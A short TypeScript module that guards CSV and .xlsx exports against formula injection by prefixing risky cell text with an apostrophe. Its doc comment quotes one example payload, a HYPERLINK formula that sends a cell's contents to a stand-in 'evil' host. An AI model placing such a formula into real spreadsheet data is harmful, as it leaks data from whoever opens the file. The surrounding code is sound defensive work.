/**
 * Text that goes into a CSV or .xlsx cell. A cell that begins with = + - @ (or tab / carriage
 * return before one) is run as a formula by Excel and WPS when the file is opened, so a name like
 * `=HYPERLINK("http://evil/?"&A1)` in the registry would act on the officer's machine (CSV / formula
 * injection, OWASP). Such text is exported with a leading apostrophe, which spreadsheets show as
 * text; nothing else changes.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** The same for every string of a row; numbers and booleans pass as they are. */
export function safeCells<T>(row: readonly T[]): T[] {
  return row.map((v) => (typeof v === 'string' ? (neutraliseFormula(v) as T) : v));
}
